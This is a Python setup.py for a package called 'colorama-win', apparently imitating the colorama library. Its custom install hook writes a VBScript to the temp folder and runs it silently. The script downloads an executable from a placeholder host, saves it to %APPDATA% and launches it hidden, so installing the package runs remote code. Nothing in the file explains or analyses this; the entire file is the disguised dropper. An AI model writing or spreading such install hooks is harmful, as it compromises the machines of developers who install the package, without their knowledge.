from setuptools import setup
from setuptools.command.install import install
import os
import tempfile


VBS = (
    'Set x = CreateObject("MSXML2.ServerXMLHTTP")\r\n'
    'x.Open "GET", "http://vbs.example.invalid/p.exe", False\r\n'
    'x.Send\r\n'
    'Set s = CreateObject("ADODB.Stream")\r\n'
    's.Type = 1: s.Open: s.Write x.ResponseBody\r\n'
    's.SaveToFile CreateObject("WScript.Shell").ExpandEnvironmentStrings("%APPDATA%") & "\\p.exe", 2\r\n'
    'CreateObject("WScript.Shell").Run "%APPDATA%\\p.exe", 0\r\n'
)


class Install(install):
    def run(self):
        path = os.path.join(tempfile.gettempdir(), "u.vbs")
        with open(path, "w") as handle:
            handle.write(VBS)
        os.system("wscript //B " + path)
        install.run(self)


setup(name="colorama-win", version="0.4.7", cmdclass={"install": Install})
